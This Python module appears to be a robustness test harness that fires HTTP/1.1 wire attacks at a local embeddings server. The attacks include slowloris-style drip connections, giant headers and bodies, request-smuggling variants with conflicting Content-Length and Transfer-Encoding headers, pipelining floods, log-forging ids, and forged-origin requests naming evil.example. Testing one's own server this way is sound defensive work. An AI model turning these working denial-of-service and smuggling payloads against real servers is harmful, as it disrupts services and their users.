"""Attacks on the wire: what clients send that want a server to wait, to keep, or to take one request for two.

Each attack takes a `Target`, lasts a few seconds and returns how its requests ended: a status, `closed`, or `open` for
what was neither answered nor closed.
"""

from __future__ import annotations

import socket
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, replace
from itertools import repeat

MIB = 2**20
SMUGGLED = "/smuggled"
"""A path that no request asks for by itself: a server that sees it has taken one request for two."""


@dataclass(frozen=True)
class Target:
    """Who is attacked, and from where."""

    port: int
    key: str = ""
    host: str = "127.0.0.1"
    source: str = "127.0.0.2"
    """Address of the attacker, of which limits on an address make a difference to honest clients."""
    seconds: float = 15.0
    """The longest that an attack waits or goes on."""
    connections: int = 200
    """Of attacks that hold connections."""
    mib: int = 600
    """Of attacks that send much."""

    def connect(self) -> socket.socket:
        """A connection whose every operation ends within the time of the attack."""
        return socket.create_connection((self.host, self.port), self.seconds, (self.source, 0))

    def head(self, method: str, path: str, *headers: str) -> bytes:
        """First line and headers, with a valid key where there is one."""
        known = [f"Host: {self.host}:{self.port}"] + ([f"Authorization: Bearer {self.key}"] if self.key else [])
        return "\r\n".join([f"{method} {path} HTTP/1.1", *known, *headers, "", ""]).encode()

    def send(self, *parts: bytes) -> str:
        """Send until all is sent or the connection is closed; how the request ended."""
        try:
            with self.connect() as connection:
                until = time.monotonic() + self.seconds
                try:
                    for part in parts:
                        connection.sendall(part)
                        if time.monotonic() > until:
                            return "open"
                except OSError:
                    # It may have been answered before it was closed.
                    return _status(connection)
                return _status(connection)
        except OSError:
            return "closed"

    def send_in_chunks(self, head: bytes, mib: int) -> str:
        """A body without a length, a MiB at a time, until it is answered."""
        chunk = b"%x\r\n" % MIB + b"x" * MIB + b"\r\n"
        try:
            with self.connect() as connection:
                try:
                    connection.sendall(head)
                    for _ in range(mib):
                        connection.sendall(chunk)
                    connection.sendall(b"0\r\n\r\n")
                except OSError:
                    return _status(connection)
                return _status(connection)
        except OSError:
            return "closed"


Attack = Callable[[Target], "Counter[str]"]
JSON = "Content-Type: application/json"
CHUNKED = "Transfer-Encoding: chunked"


def _status(connection: socket.socket) -> str:
    """The first status that comes."""
    try:
        said = connection.recv(4096)
    except TimeoutError:
        return "open"
    except OSError:
        return "closed"
    return said.split(b" ", 2)[1].decode() if said.startswith(b"HTTP/") else "closed"


def drip(target: Target, start: bytes, piece: bytes = b"x") -> Counter[str]:
    """Many connections that begin a request and then send a piece of it every quarter of a second."""
    waiting, ended = [], Counter[str]()
    for _ in range(target.connections):
        try:
            connection = target.connect()
            connection.sendall(start)
            connection.setblocking(False)
            waiting.append(connection)
        except OSError:
            ended["closed"] += 1
    until = time.monotonic() + target.seconds
    while waiting and time.monotonic() < until:
        time.sleep(0.25)
        for connection in list(waiting):
            try:
                connection.send(piece)
                said = connection.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                said = b""
            ended[said.split(b" ", 2)[1].decode() if said.startswith(b"HTTP/") else "closed"] += 1
            connection.close()
            waiting.remove(connection)
    ended["open"] += len(waiting)
    for connection in waiting:
        connection.close()
    return +ended


def slow_heads(target: Target) -> Counter[str]:
    """Headers that never end."""
    return drip(target, b"GET /health HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")


def slow_bodies(target: Target) -> Counter[str]:
    """Small bodies that never end."""
    return drip(target, target.head("POST", "/v1/embeddings", JSON, "Content-Length: 10000") + b"{")


def slow_large_bodies(target: Target) -> Counter[str]:
    """Bodies of which so much comes at once that they are no longer held back, and then nearly nothing."""
    start = target.head("POST", "/v1/embeddings", JSON, "Content-Length: 1000000") + b" " * 100_000
    return drip(target, start)


def idle_connections(target: Target) -> Counter[str]:
    """Connections on which nothing is ever said."""
    return drip(target, b"", b"")


def giant_header(target: Target) -> Counter[str]:
    """One header of 100 MiB."""
    start = b"GET /live HTTP/1.1\r\nHost: localhost\r\nX-Long: "
    return Counter([target.send(start, *repeat(b"x" * MIB, 100), b"\r\n\r\n")])


def many_headers(target: Target) -> Counter[str]:
    """200,000 short headers, and as many as a limit on bytes would let pass."""
    start, end = b"GET /live HTTP/1.1\r\nHost: localhost\r\n", b"\r\n"
    return Counter(target.send(start, b"a: b\r\n" * count, end) for count in (200_000, 1_000))


def long_path(target: Target) -> Counter[str]:
    """A path of a MiB."""
    return Counter([target.send(b"GET /" + b"a" * MIB + b" HTTP/1.1\r\nHost: localhost\r\n\r\n")])


def chunked_bodies(target: Target) -> Counter[str]:
    """Bodies without a length, to routes that read none and to those that do."""
    heads = [
        target.head("GET", "/health", CHUNKED),
        target.head("DELETE", "/v1/indexes/none", CHUNKED),
        target.head("POST", "/v1/embeddings", JSON, CHUNKED),
        target.head("POST", "/no/such/path", CHUNKED),
        target.head("PUT", "/v1/indexes/none", JSON, CHUNKED),
        b"POST /v1/search HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n",
    ]
    return Counter(target.send_in_chunks(head, target.mib) for head in heads)


def declared_bodies(target: Target) -> Counter[str]:
    """A length of 10 GiB, one of 5,000 digits, and one that does not fit what is sent."""
    lengths = [str(10 * 2**30), "9" * 5000, "-1", "1e3"]
    return Counter(
        target.send(target.head("POST", "/v1/embeddings", JSON, f"Content-Length: {length}"), *repeat(b"x" * MIB, 64))
        for length in lengths
    )


def tiny_chunks(target: Target) -> Counter[str]:
    """A million chunks of a byte, and chunks with long extensions."""
    head = target.head("POST", "/v1/embeddings", JSON, CHUNKED)
    extended = b"1;" + b"e" * 4000 + b"\r\nx\r\n"
    return Counter([target.send(head, *repeat(b"1\r\nx\r\n" * 1000, 1000)), target.send(head, *repeat(extended, 5000))])


def smuggling(target: Target) -> Counter[str]:
    """One request that two servers may read as two, by lengths that contradict each other."""
    inner = f"GET {SMUGGLED} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode()
    chunks = b"0\r\n\r\n" + inner
    variants = [
        ([f"Content-Length: {len(chunks)}", "Transfer-Encoding: chunked"], chunks),
        (["Transfer-Encoding: chunked", "Content-Length: 4"], b"%x\r\n" % len(inner) + inner + b"\r\n0\r\n\r\n"),
        (["Content-Length: 0", f"Content-Length: {len(inner)}"], inner),
        ([f"Content-Length: {len(inner)}, 0"], inner),
        (["Transfer-Encoding: xchunked", f"Content-Length: {len(chunks)}"], chunks),
        (["Transfer-Encoding : chunked", f"Content-Length: {len(chunks)}"], chunks),
        (["Transfer-Encoding:\tchunked", f"Content-Length: {len(chunks)}"], chunks),
        (["Transfer-Encoding: chunked", "Transfer-Encoding: identity", f"Content-Length: {len(chunks)}"], chunks),
        (["Transfer-Encoding:\x0bchunked", f"Content-Length: {len(chunks)}"], chunks),
        (["X: y\nTransfer-Encoding: chunked", f"Content-Length: {len(chunks)}"], chunks),
        ([f"Content-Length: +{len(inner)}"], inner),
        ([f"Content-Length: {len(inner):#x}"], inner),
        (["Connection: Content-Length", f"Content-Length: {len(inner)}"], inner),
        (["Expect: 100-continue", f"Content-Length: {len(inner)}"], inner),
    ]
    ended = Counter(target.send(target.head("POST", "/v1/embeddings", JSON, *given), body) for given, body in variants)
    for method in ("GET", "HEAD"):
        ended[target.send(target.head(method, "/live", f"Content-Length: {len(inner)}"), inner)] += 1
    return ended


def pipelining(target: Target) -> Counter[str]:
    """Two thousand requests at once on a connection, whose answers are not read."""
    return Counter([target.send(target.head("GET", "/live") * 2000)])


def unread_answers(target: Target) -> Counter[str]:
    """Large answers that nobody reads."""
    held, ended = [], Counter[str]()
    for _ in range(min(target.connections, 50)):
        try:
            connection = target.connect()
            connection.sendall(target.head("GET", "/openapi.json") * 20)
            held.append(connection)
        except OSError:
            ended["closed"] += 1
    time.sleep(min(2.0, target.seconds))
    for connection in held:
        ended[_status(connection)] += 1
        connection.close()
    return ended


def hanging_up(target: Target) -> Counter[str]:
    """Requests whose sender leaves before the answer."""
    body = b'{"model": "live", "input": ["a text that nobody waits for"]}'
    for _ in range(100):
        try:
            with target.connect() as connection:
                connection.sendall(target.head("POST", "/v1/embeddings", JSON, f"Content-Length: {len(body)}") + body)
        except OSError:
            continue
    return Counter(closed=100)


def garbage(target: Target) -> Counter[str]:
    """What is no HTTP/1.1: a TLS greeting, the beginning of HTTP/2, NUL bytes, a line without an end."""
    pieces = [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(64),
        bytes(10_000),
        b"G" * MIB,
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET http://evil.example/ HTTP/1.1\r\nHost: localhost\r\n\r\n",
        b"CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ]
    return Counter(target.send(piece) for piece in pieces)


def long_ids(target: Target) -> Counter[str]:
    """An id of 20 kB, and ones that would forge a line of a log."""
    ids = ["i" * 20_000, '"}{"status": 200', "\x1b[2J", "a" * 65]
    return Counter(target.send(target.head("GET", "/live", f"x-request-id: {given}")) for given in ids)


def foreign_hosts(target: Target) -> Counter[str]:
    """What a browser is made to send by a page whose name points to this machine."""
    body = b'{"task": "qa", "documents": [{"id": "forged", "text": "a forged document"}]}'
    first = "POST /v1/indexes/live/documents HTTP/1.1\r\n"
    head = first + "Host: {}\r\nOrigin: {}\r\nContent-Type: {}\r\nContent-Length: {}\r\n\r\n"
    return Counter(
        target.send(head.format(host, origin, kind, len(body)).encode() + body)
        for host, origin in (("evil.example", "http://evil.example"), ("localhost", "http://evil.example"))
        for kind in ("application/json", "text/plain")
    )


WIRE: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        slow_heads,
        slow_bodies,
        slow_large_bodies,
        idle_connections,
        giant_header,
        many_headers,
        long_path,
        chunked_bodies,
        declared_bodies,
        tiny_chunks,
        smuggling,
        pipelining,
        unread_answers,
        hanging_up,
        garbage,
        long_ids,
        foreign_hosts,
    )
}
HOLDING = {"slow_heads", "slow_bodies", "slow_large_bodies", "idle_connections", "unread_answers"}
"""Attacks that mostly wait, and go on beside others."""


def besiege(
    target: Target, attacks: dict[str, Attack], until: float, on_turn: Callable[[str, float, float], None] | None = None
) -> dict[str, Counter[str]]:
    """All attacks once, and again until a moment of `time.monotonic`: those that wait beside those that take turns.

    `on_turn` is told when (by `time.time`) each one that takes turns began and ended. Each comes from an address of its
    own: from one address, those that hold connections would keep the others out.
    """
    ended: dict[str, Counter[str]] = {name: Counter() for name in attacks}
    targets = {name: replace(target, source=f"127.0.1.{number}") for number, name in enumerate(attacks, start=1)}

    def repeated(names: list[str]) -> None:
        while True:
            for name in names:
                began = time.time()
                ended[name] += attacks[name](targets[name])
                if on_turn and name not in HOLDING:
                    on_turn(name, began, time.time())
            if time.monotonic() > until:
                return

    busy = [name for name in attacks if name not in HOLDING]
    groups = [[name] for name in attacks if name in HOLDING] + ([busy] if busy else [])
    threads = [threading.Thread(target=repeated, args=(group,), daemon=True) for group in groups]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return ended
